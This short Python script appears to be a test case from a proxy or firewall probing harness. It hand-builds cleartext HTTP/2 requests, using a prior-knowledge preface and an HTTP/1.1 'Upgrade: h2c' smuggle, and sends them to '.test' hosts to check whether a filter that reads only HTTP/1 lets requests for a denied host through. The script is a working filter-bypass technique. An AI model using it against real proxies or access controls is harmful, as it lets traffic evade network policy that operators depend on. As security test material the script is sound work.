"""HTTP/2 without TLS, whose names no reader of HTTP/1 sees."""

from probe import *


def header(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def prior(authority):
    """Returns a request by a client that knows beforehand."""
    block = header(b":method", b"GET") + header(b":scheme", b"http")
    block += header(b":path", b"/" + TOKEN.encode()) + header(b":authority", authority)
    settings = b"\0\0\0\4\0\0\0\0\0"
    headers = len(block).to_bytes(3, "big") + b"\1\5\0\0\0\1" + block
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + headers


def upgrade(name):
    about = ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c"]
    about += ["HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "", ""]
    first = "\r\n".join(["GET / HTTP/1.1", f"Host: {name}", *about])
    return first.encode() + prior(b"denied.test")


def control():
    say(send("h2.test", 8082, prior(b"denied.test")))


def attack():
    patience(1)
    for authority in (b"denied.test", b"allowed.test"):
        for port in (80, 443):
            say("prior", send("allowed.test", port, prior(authority)))
            say("prior", tunnel(f"allowed.test:{port}", prior(authority)))
        say("prior", to_proxy(prior(authority)))
        say("prior", send("h2.test", 8082, prior(authority)))
    say("upgrade", send("allowed.test", 80, upgrade("allowed.test")))
    say("upgrade", tunnel("allowed.test:80", upgrade("allowed.test")))
    say("upgrade", send("h2.test", 8082, upgrade("h2.test:8082")))


start(attack, control)
